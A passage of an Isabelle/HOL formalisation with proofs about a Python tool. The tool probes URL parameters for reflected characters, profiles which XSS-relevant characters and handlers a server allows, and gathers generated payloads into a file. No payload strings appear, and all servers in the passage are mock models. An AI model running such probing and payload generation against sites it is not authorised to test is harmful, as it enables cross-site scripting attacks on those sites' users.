     (if extract_parameters u = [] then Map.empty
      else (case analyze_params w groups u (extract_parameters u) Map.empty of
              Inl e \<Rightarrow> Map.empty
            | Inr results \<Rightarrow> results))"

text \<open>The set \<^verbatim>\<open>unique_payloads\<close> of \<^verbatim>\<open>process_urls\<close> after its loop over the URLs.\<close>

fun collect_unique_payloads ::
  "world \<Rightarrow> char_groups \<Rightarrow> (pystr \<Rightarrow> pystr list) \<Rightarrow> pystr list \<Rightarrow> pystr set \<Rightarrow> pystr set" where
  "collect_unique_payloads w groups extract_parameters [] unique_payloads = unique_payloads"
| "collect_unique_payloads w groups extract_parameters (u # urls) unique_payloads =
     collect_unique_payloads w groups extract_parameters urls
       (unique_payloads \<union> \<Union> (ran (analyze_url w groups extract_parameters u)))"

subsection \<open>The output file\<close>

text \<open>
  The text the write loop produces from \<^verbatim>\<open>sorted(unique_payloads)\<close>: for each payload,
  with line feeds (10) and carriage returns (13) removed and the rest stripped, one
  line, unless nothing is left.
\<close>

definition stripped_payload :: "pystr \<Rightarrow> pystr" where
  "stripped_payload payload = strip (filter (\<lambda>c. c \<noteq> 13) (filter (\<lambda>c. c \<noteq> 10) payload))"

definition written_text :: "pystr set \<Rightarrow> pystr" where
  "written_text unique_payloads =
     concat (map (\<lambda>payload.
                if stripped_payload payload \<noteq> [] then stripped_payload payload @ [10] else [])
             (sorted_list_of_set unique_payloads))"

text \<open>
  Reading a text file: a carriage return, alone or before a line feed, is read as a line
  feed; \<^verbatim>\<open>readlines\<close> cuts after each line feed.
\<close>

fun universal_newlines :: "pystr \<Rightarrow> pystr" where
  "universal_newlines [] = []"
| "universal_newlines [c] = [if c = 13 then 10 else c]"
| "universal_newlines (c # d # cs) =
     (if c = 13 \<and> d = 10 then 10 # universal_newlines cs
      else if c = 13 then 10 # universal_newlines (d # cs)
      else c # universal_newlines (d # cs))"

fun readlines :: "pystr \<Rightarrow> pystr list" where
  "readlines [] = []"
| "readlines (c # cs) =
     (if c = 10 then [10] # readlines cs
      else (case readlines cs of
              [] \<Rightarrow> [[c]]
            | line # lines \<Rightarrow> (c # line) # lines))"

definition remove_empty_lines :: "pystr \<Rightarrow> pystr" where
  "remove_empty_lines content =
     concat (filter (\<lambda>line. strip line \<noteq> []) (readlines (universal_newlines content)))"

definition output_file :: "pystr set \<Rightarrow> pystr" where
  "output_file unique_payloads = remove_empty_lines (written_text unique_payloads)"

section \<open>Notions used in the statements\<close>

text \<open>
  The specification's reading of a reflected string: the request carrying the string
  \<open>s\<close> itself is answered with status 200 and a body that contains \<open>s\<close>.
\<close>

definition reflected_verbatim :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> bool" where
  "reflected_verbatim w u p s =
     (\<exists>content. http_get w u p s = Response 200 (Inr content) \<and> str_in s content)"

text \<open>
  The characters the full sweep probes (every character of every group), and whether
  the initial sample (the first ten characters of the group
  \<^verbatim>\<open>basic\<close>) has a reflected character.
\<close>

definition swept_chars :: "char_groups \<Rightarrow> pystr set" where
  "swept_chars groups = (\<Union>(group_name, cs)\<in>set groups. set (chars cs))"

definition sample_reflected :: "world \<Rightarrow> char_groups \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> bool" where
  "sample_reflected w groups u p =
     (case map_of groups (py ''basic'') of
        None \<Rightarrow> False
      | Some basic \<Rightarrow>
          list_ex (doubled_reflected w u p) (take (min 10 (length basic)) (chars basic)))"

text \<open>
  The dictionary of verdicts after the characters in \<open>S\<close> have been probed, and the
  profile \<^verbatim>\<open>analyze_parameter\<close> assembles after a full sweep, written with the
  server's answers in place of the dictionary.
\<close>

definition verdicts :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr set \<Rightarrow> (pystr \<rightharpoonup> bool) \<Rightarrow> (pystr \<rightharpoonup> bool)" where
  "verdicts w u p S results = (\<lambda>c. if c \<in> S then Some (doubled_reflected w u p c) else results c)"

definition swept_profile :: "world \<Rightarrow> char_groups \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> ParamAnalysis" where
  "swept_profile w groups u p =
     \<lparr>param = p, url = u,
      allowed_chars = {c \<in> swept_chars groups. doubled_reflected w u p c},
      blocked_chars = {c \<in> swept_chars groups. \<not> doubled_reflected w u p c},
      max_length = quick_test_length w u p,
      allows_spaces = (py '' '' \<in> swept_chars groups \<and> doubled_reflected w u p (py '' '')),
      allows_quotes = ([34] \<in> swept_chars groups \<and> doubled_reflected w u p [34]
                       \<or> [39] \<in> swept_chars groups \<and> doubled_reflected w u p [39]),
      allows_angles = ((py ''<'' \<in> swept_chars groups \<and> doubled_reflected w u p (py ''<''))
                       \<and> py ''>'' \<in> swept_chars groups \<and> doubled_reflected w u p (py ''>'')),
      allows_parens = ((py ''('' \<in> swept_chars groups \<and> doubled_reflected w u p (py ''(''))
                       \<and> py '')'' \<in> swept_chars groups \<and> doubled_reflected w u p (py '')'')),
      allows_scripts = quick_test_scripts w u p,
      allows_events = quick_test_events w u p\<rparr>"

text \<open>The payloads of one parameter: those of its profile, none when the analysis raises.\<close>

definition parameter_payloads :: "world \<Rightarrow> char_groups \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr set" where
  "parameter_payloads w groups u p =
     (case analyze_parameter w groups u p of
        Inl e \<Rightarrow> {}
      | Inr analysis \<Rightarrow> generate_payloads analysis)"

text \<open>
  Invariants used in the proofs: every entry of the cache of \<^verbatim>\<open>test_chars_batch\<close> holds
  the server's answer for its character; every value of the dictionary built by
  \<^verbatim>\<open>analyze_url\<close> is a result of \<^verbatim>\<open>generate_payloads\<close>; a string is \<open>plain\<close> when
  it has no line feed and no carriage return, and \<open>clean\<close> when, moreover, it is not
  empty and neither starts nor ends with white space.
\<close>

definition cache_sound :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> batch_state \<Rightarrow> bool" where
  "cache_sound w u p st =
     (\<forall>char r t. cache (fst st) (cache_key u p char) = Some (r, t)
        \<longrightarrow> r = doubled_reflected w u p char)"

definition payload_sets :: "(pystr \<rightharpoonup> pystr set) \<Rightarrow> bool" where
  "payload_sets results = (finite (dom results) \<and> (\<forall>v\<in>ran results. \<exists>a. v = generate_payloads a))"

definition plain :: "pystr \<Rightarrow> bool" where
  "plain s = (10 \<notin> set s \<and> 13 \<notin> set s)"

definition clean :: "pystr \<Rightarrow> bool" where
  "clean s = (s \<noteq> [] \<and> \<not> isspace (hd s) \<and> \<not> isspace (last s) \<and> 10 \<notin> set s \<and> 13 \<notin> set s)"

section \<open>Servers and profiles of the examples\<close>

text \<open>
  Servers: one that echoes every value, one that answers every request with an empty
  page, one whose requests all time out, one that answers 403, one that echoes a value
  only when it consists of lower-case letters, one that echoes only values of at least
  four characters, one that echoes only values of at most \<open>L\<close> characters, and the
  silent server on which the session of \<^verbatim>\<open>analyze_parameter\<close> fails for one parameter
  of one URL.
\<close>

definition echo_server :: world where
  "echo_server =
     \<lparr>http_get = (\<lambda>u p v. Response 200 (Inr v)),
      clock = (\<lambda>n. 0),
      client_session = (\<lambda>u p. None),
      analysis_session = (\<lambda>u p. None)\<rparr>"

definition silent_server :: world where
  "silent_server =
     \<lparr>http_get = (\<lambda>u p v. Response 200 (Inr [])),
      clock = (\<lambda>n. 0),
      client_session = (\<lambda>u p. None),
      analysis_session = (\<lambda>u p. None)\<rparr>"

definition timeout_server :: world where
  "timeout_server =
     \<lparr>http_get = (\<lambda>u p v. Raised TimeoutError),
      clock = (\<lambda>n. 0),
      client_session = (\<lambda>u p. None),
      analysis_session = (\<lambda>u p. None)\<rparr>"

definition forbidden_server :: world where
  "forbidden_server =
     \<lparr>http_get = (\<lambda>u p v. Response 403 (Inr v)),
      clock = (\<lambda>n. 0),
      client_session = (\<lambda>u p. None),
      analysis_session = (\<lambda>u p. None)\<rparr>"

definition lowercase_echo :: world where
  "lowercase_echo =
     \<lparr>http_get = (\<lambda>u p v.
         Response 200 (Inr (if list_all (\<lambda>c. 97 \<le> c \<and> c \<le> 122) v then v else []))),
      clock = (\<lambda>n. 0),
      client_session = (\<lambda>u p. None),
      analysis_session = (\<lambda>u p. None)\<rparr>"

definition long_echo :: world where
  "long_echo =
     \<lparr>http_get = (\<lambda>u p v. Response 200 (Inr (if 4 \<le> length v then v else []))),
      clock = (\<lambda>n. 0),
      client_session = (\<lambda>u p. None),
      analysis_session = (\<lambda>u p. None)\<rparr>"

definition length_limited :: "nat \<Rightarrow> world" where
  "length_limited L =
     \<lparr>http_get = (\<lambda>u p v. Response 200 (Inr (if length v \<le> L then v else []))),
      clock = (\<lambda>n. 0),
      client_session = (\<lambda>u p. None),
      analysis_session = (\<lambda>u p. None)\<rparr>"

definition session_fails_for ::  "pystr \<Rightarrow> pystr \<Rightarrow> world" where
  "session_fails_for u0 p0 =
     \<lparr>http_get = (\<lambda>u p v. Response 200 (Inr [])),
      clock = (\<lambda>n. 0),
      client_session = (\<lambda>u p. None),
      analysis_session = (\<lambda>u p. if u = u0 \<and> p = p0 then Some OSError else None)\<rparr>"

text \<open>
  Two profiles: one allows exactly the characters of \<^verbatim>\<open><>=:imgonclk\<close>, the other
  exactly those of \<^verbatim>\<open><>*/bodyeval\<close>; both allow angle brackets and nothing else of
  the derived flags.
\<close>

definition colon_profile :: ParamAnalysis where
  "colon_profile =
     \<lparr>param = py ''q'', url = py ''http://h/?q=1'',
      allowed_chars = set (chars (py ''<>=:imgonclk'')), blocked_chars = {}, max_length = None,
      allows_spaces = False, allows_quotes = False, allows_angles = True,
      allows_parens = False, allows_scripts = False, allows_events = False\<rparr>"

definition comment_profile :: ParamAnalysis where
  "comment_profile =
     \<lparr>param = py ''q'', url = py ''http://h/?q=1'',
      allowed_chars = set (chars (py ''<>*/bodyeval'')), blocked_chars = {}, max_length = None,
      allows_spaces = False, allows_quotes = False, allows_angles = True,
      allows_parens = False, allows_scripts = False, allows_events = False\<rparr>"

section \<open>Strings\<close>

lemma str_in_iff: "str_in sub s \<longleftrightarrow> (\<exists>ps ss. s = ps @ sub @ ss)"
proof (induction s)
  case Nil
  then show ?case by auto
next
  case (Cons c cs)
  show ?case
  proof
    assume "str_in sub (c # cs)"
    then consider "prefix sub (c # cs)" | "str_in sub cs" by auto
    then show "\<exists>ps ss. c # cs = ps @ sub @ ss"
    proof cases
      case 1
      then obtain ss where "c # cs = sub @ ss" by (auto simp: prefix_def)
      then have "c # cs = [] @ sub @ ss" by simp
      then show ?thesis by blast
    next
      case 2
      with Cons.IH obtain ps ss where "cs = ps @ sub @ ss" by blast
      then have "c # cs = (c # ps) @ sub @ ss" by simp
      then show ?thesis by blast
    qed
  next
    assume "\<exists>ps ss. c # cs = ps @ sub @ ss"
    then obtain ps ss where eq: "c # cs = ps @ sub @ ss" by blast
    show "str_in sub (c # cs)"
    proof (cases ps)
      case Nil
      with eq have "prefix sub (c # cs)" by (simp add: prefix_def)
      then show ?thesis by simp
    next
      case (Cons p ps')
      with eq have "cs = ps' @ sub @ ss" by simp
      with Cons.IH have "str_in sub cs" by blast
      then show ?thesis by simp
    qed
  qed
qed

lemma str_in_refl: "str_in s s"
  by (cases s) simp_all

lemma str_in_single: "str_in [c] s \<longleftrightarrow> c \<in> set s"
  unfolding str_in_iff
proof
  assume "\<exists>ps ss. s = ps @ [c] @ ss"
  then show "c \<in> set s" by auto
next
  assume "c \<in> set s"
  then obtain ps ss where "s = ps @ c # ss" by (auto dest: split_list)
  then have "s = ps @ [c] @ ss" by simp
  then show "\<exists>ps ss. s = ps @ [c] @ ss" by blast
qed

lemma dropWhile_hd: "s \<noteq> [] \<Longrightarrow> \<not> P (hd s) \<Longrightarrow> dropWhile P s = s"
  by (cases s) simp_all

lemma strip_clean: "clean s \<Longrightarrow> strip s = s"
proof -
  assume c: "clean s"
  then have 1: "dropWhile isspace s = s" by (simp add: clean_def dropWhile_hd)
  from c have "rev s \<noteq> []" "\<not> isspace (hd (rev s))" by (simp_all add: clean_def hd_rev)
  then have "dropWhile isspace (rev s) = rev s" by (rule dropWhile_hd)
  with 1 show ?thesis by (simp add: strip_def)
qed

lemma stripped_payload_clean: "clean s \<Longrightarrow> stripped_payload s = s"
proof -
  assume c: "clean s"
  then have "filter (\<lambda>c. c \<noteq> 10) s = s" "filter (\<lambda>c. c \<noteq> 13) s = s"
    by (auto simp: clean_def filter_id_conv)
  with c show ?thesis by (simp add: stripped_payload_def strip_clean)
qed

lemma strip_line_clean: "clean s \<Longrightarrow> strip (s @ [10]) = s"
proof -
  assume c: "clean s"
  then have "s @ [10] \<noteq> []" "\<not> isspace (hd (s @ [10]))" by (simp_all add: clean_def)
  then have 1: "dropWhile isspace (s @ [10]) = s @ [10]" by (rule dropWhile_hd)
  have 2: "dropWhile isspace (10 # rev s) = dropWhile isspace (rev s)" by (simp add: isspace_def)
  from c have "rev s \<noteq> []" "\<not> isspace (hd (rev s))" by (simp_all add: clean_def hd_rev)
  then have "dropWhile isspace (rev s) = rev s" by (rule dropWhile_hd)
  with 1 2 show ?thesis by (simp add: strip_def)
qed

lemma stripped_payload_eq:
  "stripped_payload payload = strip (filter (\<lambda>c. c \<noteq> 10 \<and> c \<noteq> 13) payload)"
  by (simp add: stripped_payload_def)

lemma set_strip: "set (strip s) \<subseteq> set s"
proof
  fix c assume "c \<in> set (strip s)"
  then have "c \<in> set (dropWhile isspace (rev (dropWhile isspace s)))" by (simp add: strip_def)
  then have "c \<in> set (rev (dropWhile isspace s))" by (rule set_dropWhileD)
  then have "c \<in> set (dropWhile isspace s)" by simp
  then show "c \<in> set s" by (rule set_dropWhileD)
qed

lemma last_dropWhile_ne: "dropWhile P xs \<noteq> [] \<Longrightarrow> last (dropWhile P xs) = last xs"
  by (induction xs) (auto split: if_splits)

lemma strip_ends:
  assumes "strip s \<noteq> []"
  shows "\<not> isspace (hd (strip s))" and "\<not> isspace (last (strip s))"
proof -
  let ?t = "dropWhile isspace s"
  let ?r = "dropWhile isspace (rev ?t)"
  from assms have r: "?r \<noteq> []" by (simp add: strip_def)
  have t: "?t \<noteq> []"
  proof
    assume "?t = []"
    with r show False by simp
  qed
  from r have "\<not> isspace (hd ?r)" by (rule hd_dropWhile)
  with r show "\<not> isspace (last (strip s))" by (simp add: strip_def last_rev)
  from r have "last ?r = last (rev ?t)" by (rule last_dropWhile_ne)
  with t have "last ?r = hd ?t" by (simp add: last_rev)
  moreover from t have "\<not> isspace (hd ?t)" by (rule hd_dropWhile)
  ultimately show "\<not> isspace (hd (strip s))" using r by (simp add: strip_def hd_rev)
qed

lemma clean_stripped_payload:
  assumes "stripped_payload payload \<noteq> []"
  shows "clean (stripped_payload payload)"
proof -
  let ?f = "filter (\<lambda>c. c \<noteq> 13) (filter (\<lambda>c. c \<noteq> 10) payload)"
  have "set (strip ?f) \<subseteq> set ?f" by (rule set_strip)
  then have "10 \<notin> set (strip ?f)" "13 \<notin> set (strip ?f)" by auto
  moreover from assms have "strip ?f \<noteq> []" by (simp add: stripped_payload_def)
  ultimately show ?thesis
    using strip_ends [of ?f] by (simp add: clean_def stripped_payload_def)
qed

section \<open>Properties of the cache\<close>

lemma CacheManager_get_stale:
  assumes "cache c k = Some (r, ts)" and "ttl c < now - ts"
  shows "CacheManager_get c now k = (None, c\<lparr>cache := (cache c)(k := None)\<rparr>)"
  using assms by (simp add: CacheManager_get_def)

lemma CacheManager_get_after_set:
  assumes "now' - now \<le> ttl c"
  shows "CacheManager_get (CacheManager_set c now k v) now' k = (Some v, CacheManager_set c now k v)"
  using assms by (simp add: CacheManager_get_def CacheManager_set_def)

text \<open>
  Claim C7. A \<^verbatim>\<open>get(k)\<close> on an entry whose age exceeds the time to live returns
  \<^verbatim>\<open>None\<close> and leaves a cache from which the entry of \<open>k\<close> is gone, every other entry
  and the time to live unchanged; with the default time to live of 300 seconds the same
  holds. A \<^verbatim>\<open>set(k, v)\<close> followed by a \<^verbatim>\<open>get(k)\<close> at the same clock reading, or at
  any reading at most the time to live later, returns \<open>v\<close> and keeps the entry.
\<close>

theorem C7_cache_expiry_and_roundtrip:
  "(cache c k = Some (r, ts) \<and> ttl c < now - ts \<longrightarrow>
      fst (CacheManager_get c now k) = None
      \<and> cache (snd (CacheManager_get c now k)) k = None
      \<and> (\<forall>k'. k' \<noteq> k \<longrightarrow> cache (snd (CacheManager_get c now k)) k' = cache c k')
      \<and> ttl (snd (CacheManager_get c now k)) = ttl c)
   \<and> (ttl c = default_ttl \<and> cache c k = Some (r, ts) \<and> 300 < now - ts \<longrightarrow>
      fst (CacheManager_get c now k) = None \<and> cache (snd (CacheManager_get c now k)) k = None)
   \<and> (0 \<le> ttl c \<longrightarrow>
      fst (CacheManager_get (CacheManager_set c now k v) now k) = Some v)
   \<and> (now' - now \<le> ttl c \<longrightarrow>
      CacheManager_get (CacheManager_set c now k v) now' k = (Some v, CacheManager_set c now k v))"
  by (simp add: CacheManager_get_stale CacheManager_get_after_set default_ttl_def)

theorem C7_cache_expiry_and_roundtrip_witness:
  "fst (CacheManager_get (CacheManager_set (CacheManager_init default_ttl) 0 (py ''k'') True) 301 (py ''k'')) = None
   \<and> cache (snd (CacheManager_get (CacheManager_set (CacheManager_init default_ttl) 0 (py ''k'') True) 301 (py ''k''))) (py ''k'') = None
   \<and> fst (CacheManager_get (CacheManager_set (CacheManager_init default_ttl) 5 (py ''k'') True) 5 (py ''k'')) = Some True
   \<and> CacheManager_get (CacheManager_set (CacheManager_init default_ttl) 5 (py ''k'') False) 305 (py ''k'')
       = (Some False, CacheManager_set (CacheManager_init default_ttl) 5 (py ''k'') False)"
proof -
  let ?c0 = "CacheManager_init default_ttl"
  have stale: "cache (CacheManager_set ?c0 0 (py ''k'') True) (py ''k'') = Some (True, 0)
      \<and> ttl (CacheManager_set ?c0 0 (py ''k'') True) = default_ttl \<and> (300::real) < 301 - 0"
    by (simp add: CacheManager_set_def CacheManager_init_def)
  have fresh: "(0::real) \<le> ttl ?c0" "(305::real) - 5 \<le> ttl ?c0"
    by (simp_all add: CacheManager_init_def default_ttl_def)
  show ?thesis
    using stale fresh
      C7_cache_expiry_and_roundtrip [of "CacheManager_set ?c0 0 (py ''k'') True" "py ''k''" True 0 301 True 301]
      C7_cache_expiry_and_roundtrip [of ?c0 "py ''k''" True 0 5 True 5]
      C7_cache_expiry_and_roundtrip [of ?c0 "py ''k''" True 0 5 False 305]
    by simp
qed

section \<open>The single-character probe\<close>

lemma test_single_char_eq:
  "test_single_char w u p char = Inr (doubled_reflected w u p char)"
  by (auto simp: test_single_char_def doubled_reflected_def split: http_outcome.splits sum.splits)

lemma echo_reflected: "doubled_reflected echo_server u p c"
  by (simp add: doubled_reflected_def echo_server_def str_in_refl)

lemma silent_reflected: "doubled_reflected silent_server u p c = (c = [])"
  by (auto simp: doubled_reflected_def silent_server_def)

lemma echo_server_sessions:
  "analysis_session echo_server u p = None" "client_session echo_server u p = None"
  by (simp_all add: echo_server_def)

lemma silent_server_sessions:
  "analysis_session silent_server u p = None" "client_session silent_server u p = None"
  by (simp_all add: silent_server_def)

text \<open>
  Claim C3. For every URL, parameter and character, \<^verbatim>\<open>test_single_char\<close> returns a
  Boolean and never an exception. It returns true exactly when the request with the
  doubled character is answered with status 200 and a body that contains the doubled
  character as a contiguous substring; it returns false when the request raises (a
  timeout included), when the status is not 200, and when reading the body raises.
\<close>

theorem C3_test_single_char_fail_closed:
  "test_single_char w u p char = Inr (doubled_reflected w u p char)
   \<and> (test_single_char w u p char = Inr True \<longrightarrow>
        (\<exists>content ps ss. http_get w u p (char @ char) = Response 200 (Inr content)
           \<and> content = ps @ char @ char @ ss))
   \<and> (\<forall>e. http_get w u p (char @ char) = Raised e \<longrightarrow> test_single_char w u p char = Inr False)
   \<and> (\<forall>status body. http_get w u p (char @ char) = Response status body \<and> status \<noteq> 200
        \<longrightarrow> test_single_char w u p char = Inr False)
   \<and> (\<forall>e. http_get w u p (char @ char) = Response 200 (Inl e)
        \<longrightarrow> test_single_char w u p char = Inr False)
   \<and> (\<forall>e. test_single_char w u p char \<noteq> Inl e)"
proof -
  have eq: "test_single_char w u p char = Inr (doubled_reflected w u p char)"
    by (rule test_single_char_eq)
  have sub: "doubled_reflected w u p char \<Longrightarrow>
      \<exists>content ps ss. http_get w u p (char @ char) = Response 200 (Inr content)
           \<and> content = ps @ char @ char @ ss"
    unfolding doubled_reflected_def str_in_iff by auto
  have r: "\<And>e. http_get w u p (char @ char) = Raised e \<Longrightarrow> \<not> doubled_reflected w u p char"
    by (simp add: doubled_reflected_def)
  have s: "\<And>status body. http_get w u p (char @ char) = Response status body \<Longrightarrow> status \<noteq> 200
      \<Longrightarrow> \<not> doubled_reflected w u p char"
    by (simp add: doubled_reflected_def)
  have t: "\<And>e. http_get w u p (char @ char) = Response 200 (Inl e) \<Longrightarrow> \<not> doubled_reflected w u p char"
    by (simp add: doubled_reflected_def)
  show ?thesis
    unfolding eq using sub r s t by auto
qed

theorem C3_test_single_char_fail_closed_witness:
  "test_single_char echo_server (py ''http://h/?q=1'') (py ''q'') (py ''<'') = Inr True
   \<and> test_single_char timeout_server (py ''http://h/?q=1'') (py ''q'') (py ''<'') = Inr False
   \<and> test_single_char forbidden_server (py ''http://h/?q=1'') (py ''q'') (py ''<'') = Inr False"
proof -
  have 1: "doubled_reflected echo_server (py ''http://h/?q=1'') (py ''q'') (py ''<'')"
    by (rule echo_reflected)
  have 2: "http_get timeout_server (py ''http://h/?q=1'') (py ''q'') (py ''<'' @ py ''<'') = Raised TimeoutError"
    by (simp add: timeout_server_def)
  have 3: "http_get forbidden_server (py ''http://h/?q=1'') (py ''q'') (py ''<'' @ py ''<'')
      = Response 403 (Inr (py ''<'' @ py ''<'')) \<and> (403::int) \<noteq> 200"
    by (simp add: forbidden_server_def)
  from C3_test_single_char_fail_closed [of echo_server "py ''http://h/?q=1''" "py ''q''" "py ''<''"]
  have "test_single_char echo_server (py ''http://h/?q=1'') (py ''q'') (py ''<'')
      = Inr (doubled_reflected echo_server (py ''http://h/?q=1'') (py ''q'') (py ''<''))"
    by (rule conjunct1)
  with 1 have a: "test_single_char echo_server (py ''http://h/?q=1'') (py ''q'') (py ''<'') = Inr True"
    by simp
  from C3_test_single_char_fail_closed [of timeout_server "py ''http://h/?q=1''" "py ''q''" "py ''<''"]
  have "\<forall>e. http_get timeout_server (py ''http://h/?q=1'') (py ''q'') (py ''<'' @ py ''<'') = Raised e
      \<longrightarrow> test_single_char timeout_server (py ''http://h/?q=1'') (py ''q'') (py ''<'') = Inr False"
    by (elim conjE)
  with 2 have b: "test_single_char timeout_server (py ''http://h/?q=1'') (py ''q'') (py ''<'') = Inr False"
    by blast
  from C3_test_single_char_fail_closed [of forbidden_server "py ''http://h/?q=1''" "py ''q''" "py ''<''"]
  have "\<forall>status body. http_get forbidden_server (py ''http://h/?q=1'') (py ''q'') (py ''<'' @ py ''<'')
        = Response status body \<and> status \<noteq> 200
      \<longrightarrow> test_single_char forbidden_server (py ''http://h/?q=1'') (py ''q'') (py ''<'') = Inr False"
    by (elim conjE)
  with 3 have c: "test_single_char forbidden_server (py ''http://h/?q=1'') (py ''q'') (py ''<'') = Inr False"
    by blast
  from a b c show ?thesis by simp
qed

section \<open>The batch test and the quick tests\<close>

lemma cache_key_inject: "cache_key u p c = cache_key u p c' \<longleftrightarrow> c = c'"
  by (simp add: cache_key_def)

lemma cache_sound_init: "cache_sound w u p (CacheManager_init t, n)"
  by (simp add: cache_sound_def CacheManager_init_def)

lemma CacheManager_get_cases:
  obtains (hit) r t where "cache c key = Some (r, t)" "CacheManager_get c now key = (Some r, c)"
  | (miss) c1 where "CacheManager_get c now key = (None, c1)"
      "\<And>k. cache c1 k = None \<or> cache c1 k = cache c k"
proof (cases "cache c key")
  case None
  then have "CacheManager_get c now key = (None, c)" by (simp add: CacheManager_get_def)
  then show ?thesis using miss by blast
next
  case (Some e)
  obtain r t where e: "e = (r, t)" by (cases e)
  show ?thesis
  proof (cases "now - t \<le> ttl c")
    case True
    with Some e have "CacheManager_get c now key = (Some r, c)" by (simp add: CacheManager_get_def)
    with Some e show ?thesis using hit by blast
  next
    case False
    with Some e have g: "CacheManager_get c now key = (None, c\<lparr>cache := (cache c)(key := None)\<rparr>)"
      by (simp add: CacheManager_get_def)
    have "\<And>k. cache (c\<lparr>cache := (cache c)(key := None)\<rparr>) k = None
        \<or> cache (c\<lparr>cache := (cache c)(key := None)\<rparr>) k = cache c k"
      by simp
    with g show ?thesis using miss by blast
  qed
qed

lemma test_single_miss:
  assumes "CacheManager_get c (clock w n) (cache_key u p char) = (None, c1)"
  shows "test_single w u p char (c, n)
      = (doubled_reflected w u p char,
         (CacheManager_set c1 (clock w (n + 1)) (cache_key u p char)
            (doubled_reflected w u p char), n + 2))"
proof (cases "http_get w u p (char @ char)")
  case (Raised e)
  then have "\<not> doubled_reflected w u p char" by (simp add: doubled_reflected_def)
  then show ?thesis using assms Raised by (simp add: test_single_def)
next
  case (Response status body)
  show ?thesis
  proof (cases "status = 200")
    case False
    then have "\<not> doubled_reflected w u p char" using Response by (simp add: doubled_reflected_def)
    then show ?thesis using assms Response False by (simp add: test_single_def)
  next
    case True
    show ?thesis
    proof (cases body)
      case (Inl e)
      then have "\<not> doubled_reflected w u p char" using Response by (simp add: doubled_reflected_def)
      then show ?thesis using assms Response True Inl by (simp add: test_single_def)
    next
      case (Inr content)
      then have "doubled_reflected w u p char = str_in (char @ char) content"
        using Response True by (simp add: doubled_reflected_def)
      then show ?thesis using assms Response True Inr by (simp add: test_single_def)
    qed
  qed
qed

lemma test_single_hit:
  assumes "CacheManager_get c (clock w n) (cache_key u p char) = (Some r, c1)"
  shows "test_single w u p char (c, n) = (r, (c1, n + 1))"
  using assms by (simp add: test_single_def)

lemma cache_sound_set:
  assumes "\<And>ch r t. cache c1 (cache_key u p ch) = Some (r, t) \<Longrightarrow> r = doubled_reflected w u p ch"
  shows "cache_sound w u p
           (CacheManager_set c1 now (cache_key u p char) (doubled_reflected w u p char), m)"
  unfolding cache_sound_def
proof (intro allI impI)
  fix ch r t
  assume a: "cache (fst (CacheManager_set c1 now (cache_key u p char)
                (doubled_reflected w u p char), m)) (cache_key u p ch) = Some (r, t)"
  show "r = doubled_reflected w u p ch"
  proof (cases "ch = char")
    case True
    with a show ?thesis by (simp add: CacheManager_set_def)
  next
    case False
    then have "cache_key u p ch \<noteq> cache_key u p char" by (simp add: cache_key_inject)
    with a have "cache c1 (cache_key u p ch) = Some (r, t)" by (simp add: CacheManager_set_def)
    then show ?thesis by (rule assms)
  qed
qed

lemma test_single_sound:
  assumes "cache_sound w u p st"
  shows "fst (test_single w u p char st) = doubled_reflected w u p char
         \<and> cache_sound w u p (snd (test_single w u p char st))"
proof (cases st)
  case (Pair c n)
  from assms Pair have snd0: "\<And>ch r t. cache c (cache_key u p ch) = Some (r, t)
      \<Longrightarrow> r = doubled_reflected w u p ch"
    by (simp add: cache_sound_def)
  show ?thesis
  proof (cases rule: CacheManager_get_cases [where c = c and now = "clock w n" and key = "cache_key u p char"])
    case (hit r t)
    from snd0 hit(1) have "r = doubled_reflected w u p char" by blast
    moreover have "test_single w u p char (c, n) = (r, (c, n + 1))"
      using hit(2) by (rule test_single_hit)
    moreover have "cache_sound w u p (c, n + 1)"
      using snd0 by (simp add: cache_sound_def)
    ultimately show ?thesis using Pair by simp
  next
    case (miss c1)
    have c1: "\<And>ch r t. cache c1 (cache_key u p ch) = Some (r, t)
        \<Longrightarrow> r = doubled_reflected w u p ch"
    proof -
      fix ch r t assume a: "cache c1 (cache_key u p ch) = Some (r, t)"
      from miss(2) [of "cache_key u p ch"] a
      have "cache c (cache_key u p ch) = Some (r, t)" by auto
      then show "r = doubled_reflected w u p ch" by (rule snd0)
    qed
    have "test_single w u p char (c, n)
      = (doubled_reflected w u p char,
         (CacheManager_set c1 (clock w (n + 1)) (cache_key u p char)
            (doubled_reflected w u p char), n + 2))"
      using miss(1) by (rule test_single_miss)
    moreover have "cache_sound w u p
       (CacheManager_set c1 (clock w (n + 1)) (cache_key u p char)
            (doubled_reflected w u p char), n + 2)"
      using c1 by (rule cache_sound_set)
    ultimately show ?thesis using Pair by simp
  qed
qed

lemma gather_test_single_sound:
  "cache_sound w u p st \<Longrightarrow>
     fst (gather_test_single w u p batch st) = map (doubled_reflected w u p) batch
     \<and> cache_sound w u p (snd (gather_test_single w u p batch st))"
proof (induction batch arbitrary: st)
  case Nil
  then show ?case by simp
next
  case (Cons char batch)
  obtain r st1 where t: "test_single w u p char st = (r, st1)" by (cases "test_single w u p char st")
  from test_single_sound [OF Cons.prems, of char] t
  have r: "r = doubled_reflected w u p char" and s1: "cache_sound w u p st1" by simp_all
  obtain rs st2 where g: "gather_test_single w u p batch st1 = (rs, st2)"
    by (cases "gather_test_single w u p batch st1")
  from Cons.IH [OF s1] g have "rs = map (doubled_reflected w u p) batch" "cache_sound w u p st2"
    by simp_all
  with r t g show ?case by simp
qed

lemma test_batches_eq:
  "cache_sound w u p st \<Longrightarrow>
     test_batches w u p batches st
       = (\<exists>batch\<in>set batches. \<exists>c\<in>set batch. doubled_reflected w u p [c])"
proof (induction batches arbitrary: st)
  case Nil
  then show ?case by simp
next
  case (Cons batch rest)
  obtain results st1 where g: "gather_test_single w u p (chars batch) st = (results, st1)"
    by (cases "gather_test_single w u p (chars batch) st")
  from gather_test_single_sound [OF Cons.prems, of "chars batch"] g
  have res: "results = map (doubled_reflected w u p) (chars batch)"
    and s1: "cache_sound w u p st1" by simp_all
  have ex: "list_ex (\<lambda>b. b) results = (\<exists>c\<in>set batch. doubled_reflected w u p [c])"
    by (auto simp: res chars_def list_ex_iff)
  show ?case
    using g ex Cons.IH [OF s1] by auto
qed

lemma char_batches_index_bound:
  fixes i n len :: nat
